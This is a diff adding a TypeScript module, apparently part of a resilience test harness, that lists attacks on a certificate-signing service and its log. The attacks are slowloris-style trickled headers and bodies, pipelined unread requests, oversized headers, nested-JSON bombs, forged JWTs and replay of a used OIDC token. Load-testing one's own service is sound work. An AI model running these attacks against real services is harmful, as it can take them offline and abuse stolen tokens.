@@ -1,0 +1,239 @@
+/** The table of attacks. None of them has a token of its own. */
+import { generateKeyPairSync, sign } from 'node:crypto';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { inTurn, keepOpen, sendUnread, trickle } from './sockets.ts';
+import type { TargetAddress } from './target.ts';
+
+/** What attackers know: the service, and a used token of the honest client. */
+export interface AttackedService extends TargetAddress {
+  readonly usedToken: string;
+}
+
+/** One attack. */
+export interface Attack {
+  readonly name: string;
+  /** What the attackers do. */
+  readonly what: string;
+  /** Attacks until `until` is aborted. */
+  readonly run: (target: AttackedService, until: AbortSignal) => Promise<void>;
+}
+
+const KIB = 1024;
+const SIGN = '/api/v2/signingCert';
+
+/** One request. */
+function request(line: string, headers: readonly string[] = [], body = ''): Buffer {
+  const length = body === '' ? [] : [`Content-Length: ${Buffer.byteLength(body)}`];
+  return Buffer.from([`${line} HTTP/1.1`, 'Host: a', ...headers, ...length, '', body].join('\r\n'));
+}
+
+/** As many requests as the service reads at once. */
+const segment = (one: Buffer, bytes = 64 * KIB): Buffer =>
+  Buffer.concat(Array.from({ length: Math.floor(bytes / one.length) }, () => one));
+
+const base64url = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');
+
+/** A token with good claims and a random signature. */
+function forgedToken(issuer: string, keyId: string): string {
+  const now = Math.floor(Date.now() / 1000);
+  const claims = {
+    iss: issuer,
+    aud: 'sigstore',
+    sub: 'x',
+    email: 'victim@example.com',
+    email_verified: true,
+  };
+  const payload = base64url({ ...claims, iat: now, exp: now + 300, jti: crypto.randomUUID() });
+  const signature = Buffer.from(crypto.getRandomValues(new Uint8Array(64))).toString('base64url');
+  return `${base64url({ alg: 'ES256', typ: 'JWT', kid: keyId })}.${payload}.${signature}`;
+}
+
+const PEM =
+  '-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE0tkXhbfhWCCAlJvWkoB8Rs3KaMRf\nyQtyrJEGXsBt7HNECBWHTBAqYmRrsnFJEnRMMhAqCfdoOa9yoqIWLtWH6A==\n-----END PUBLIC KEY-----\n';
+
+const signingBody = (token: string, content = PEM): string =>
+  JSON.stringify({
+    credentials: { oidcIdentityToken: token },
+    publicKeyRequest: { publicKey: { algorithm: 'ECDSA', content }, proofOfPossession: 'AAAA' },
+  });
+
+const signing = (token: string, content?: string): Buffer =>
+  request(`POST ${SIGN}`, ['Content-Type: application/json'], signingBody(token, content));
+
+const pathOf = (url: string): string => new URL(url).pathname;
+
+/** The table. */
+export const ATTACKS: readonly Attack[] = [
+  {
+    name: 'pipelined-unread',
+    what: '400 connections send requests in heaps and read no answer',
+    run: ({ url }, until) =>
+      keepOpen(url, { count: 400 }, until, async (socket) => {
+        const heap = segment(request('GET /healthz'));
+        while (!socket.destroyed) {
+          sendUnread(socket, heap);
+          await sleep(100);
+        }
+      }),
+  },
+  {
+    name: 'pipelined-segments',
+    what: 'segments of 2,000 requests to unknown paths, 1 MB a second, each on a connection of its own',
+    run: ({ url }, until) =>
+      keepOpen(url, { count: 16, perSecond: 16 }, until, async (socket) => {
+        sendUnread(socket, segment(request('GET /x')));
+        await sleep(500);
+        socket.destroy();
+      }),
+  },
+  {
+    name: 'pipelined-odd-requests',
+    what: 'the same with requests that the runtime answers by itself: no host, a strange expectation, an upgrade',
+    run: ({ url }, until) =>
+      keepOpen(url, { count: 400 }, until, (socket) => {
+        const odd = [
+          request('GET /x', ['Expect: the-unexpected']),
+          request('GET /x', ['Connection: upgrade', 'Upgrade: websocket']),
+          request('POST /api/v2/signingCert', ['Expect: 100-continue', 'Content-Length: 0']),
+          request('OPTIONS /x', ['Access-Control-Request-Method: POST']),
+        ];
+        sendUnread(socket, segment(odd[Math.floor(Math.random() * odd.length)] ?? Buffer.alloc(0)));
+      }),
+  },
+  {
+    name: 'pipelined-operator',
+    what: '64 connections to the operator’s listener send requests in heaps and read no answer',
+    run: ({ metricsUrl }, until) =>
+      keepOpen(metricsUrl, { count: 64 }, until, (socket) => {
+        sendUnread(socket, segment(request('GET /metrics')));
+      }),
+  },
+  {
+    name: 'unknown-paths',
+    what: '64 connections ask for paths that are not there, one after the other',
+    run: ({ url }, until) =>
+      keepOpen(url, { count: 64 }, until, (socket) => {
+        inTurn(socket, request(`GET /${crypto.randomUUID()}`));
+      }),
+  },
+  {
+    name: 'unfinished-bodies',
+    what: '300 connections send 255 KiB of a body, the last of it in small chunks, and no more',
+    run: ({ url }, until) =>
+      keepOpen(url, { count: 300 }, until, (socket) => {
+        socket.write(request(`POST ${SIGN}`, [`Content-Length: ${256 * KIB}`]));
+        socket.write(Buffer.alloc(200 * KIB, ' '));
+        // In pieces of a kilobyte, so that the memory is filled to the last one.
+        return trickle(socket, ' '.repeat(KIB), 100, 55);
+      }),
+  },
+  {
+    name: 'trickled-bodies',
+    what: '1,500 connections send a body in chunks of one byte',
+    run: ({ url }, until) =>
+      keepOpen(url, { count: 1500 }, until, (socket) => {
+        socket.write(request(`POST ${SIGN}`, ['Transfer-Encoding: chunked']));
+        return trickle(socket, '1\r\n \r\n'.repeat(200), 500);
+      }),
+  },
+  {
+    name: 'trickled-heads',
+    what: '4,500 connections send a header a second and never end',
+    run: ({ url }, until) =>
+      keepOpen(url, { count: 4500, perSecond: 2000 }, until, (socket) => {
+        socket.write(`POST ${SIGN} HTTP/1.1\r\nHost: a\r\n`);
+        return trickle(socket, 'X-A: b\r\n', 1000);
+      }),
+  },
+  {
+    name: 'big-heads',
+    what: '2,000 connections send 60 KB of headers and do not end them',
+    run: ({ url }, until) =>
+      keepOpen(url, { count: 2000 }, until, (socket) => {
+        socket.write(`POST ${SIGN} HTTP/1.1\r\nHost: a\r\n${'ab: cd\r\n'.repeat(7500)}`);
+      }),
+  },
+  {
+    name: 'idle-connections',
+    what: '5,000 connections ask once and stay',
+    run: ({ url }, until) =>
+      keepOpen(url, { count: 5000, perSecond: 2000 }, until, (socket) => {
+        sendUnread(socket, request('GET /healthz'));
+      }),
+  },
+  {
+    name: 'unread-tiles',
+    what: '4 connections ask for entries in 5,680 bytes, all at once on each of them, and read nothing',
+    run: ({ url, logUrl }, until) =>
+      keepOpen(url, { count: 4, perSecond: 3 }, until, (socket) => {
+        const read = request(`GET ${pathOf(logUrl)}/ct/v1/get-entries?start=0&end=999`);
+        sendUnread(socket, segment(read, 5680 / 4));
+      }),
+  },
+  {
+    name: 'one-reader',
+    what: '24 connections read entries as fast as they get them',
+    run: ({ url, logUrl }, until) =>
+      keepOpen(url, { count: 24 }, until, (socket) => {
+        inTurn(socket, request(`GET ${pathOf(logUrl)}/ct/v1/get-entries?start=0&end=999`));
+      }),
+  },
+  {
+    name: 'forged-tokens',
+    what: '512 connections send tokens that somebody else signed, one after the other',
+    run: ({ url, issuer, keyId }, until) =>
+      keepOpen(url, { count: 512 }, until, (socket) => {
+        inTurn(socket, signing(forgedToken(issuer, keyId)));
+      }),
+  },
+  {
+    name: 'hanging-issuer',
+    what: '600 connections send tokens of a configured issuer that does not answer, with keys of 200 KiB',
+    run: ({ url, hangingIssuer, keyId }, until) =>
+      keepOpen(url, { count: 600 }, until, (socket) => {
+        inTurn(socket, signing(forgedToken(hangingIssuer, keyId), 'A'.repeat(200 * KIB)));
+      }),
+  },
+  {
+    name: 'nested-json',
+    what: '32 connections send bodies of 255 KiB of nested JSON, one after the other',
+    run: ({ url }, until) =>
+      keepOpen(url, { count: 32 }, until, (socket) => {
+        const half = 127 * KIB;
+        const body = `{"a":${'['.repeat(half)}${']'.repeat(half)}}`;
+        inTurn(socket, request(`POST ${SIGN}`, ['Content-Type: application/json'], body));
+      }),
+  },
+  {
+    name: 'refusals',
+    what: 'one connection asks for a certificate with nothing, as fast as it is refused',
+    run: ({ url }, until) =>
+      keepOpen(url, { count: 1 }, until, (socket) => {
+        inTurn(socket, request(`POST ${SIGN}`, ['Content-Type: application/json'], '{}'));
+      }),
+  },
+  {
+    name: 'replayed-token',
+    what: '8 connections send a used token of the honest client again and again, with a key and a proof of their own',
+    run: ({ url, usedToken }, until) =>
+      keepOpen(url, { count: 8 }, until, (socket) => {
+        inTurn(socket, replay(usedToken));
+      }),
+  },
+];
+
+/** A request with the used token and another key. The proof is over the name, which stands in the token. */
+function replay(token: string): Buffer {
+  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
+  const claims = JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString()) as {
+    email: string;
+  };
+  const body = JSON.stringify({
+    credentials: { oidcIdentityToken: token },
+    publicKeyRequest: {
+      publicKey: { algorithm: 'ECDSA', content: publicKey.export({ type: 'spki', format: 'pem' }) },
+      proofOfPossession: sign('sha256', Buffer.from(claims.email), privateKey).toString('base64'),
+    },
+  });
+  return request(`POST ${SIGN}`, ['Content-Type: application/json'], body);
+}
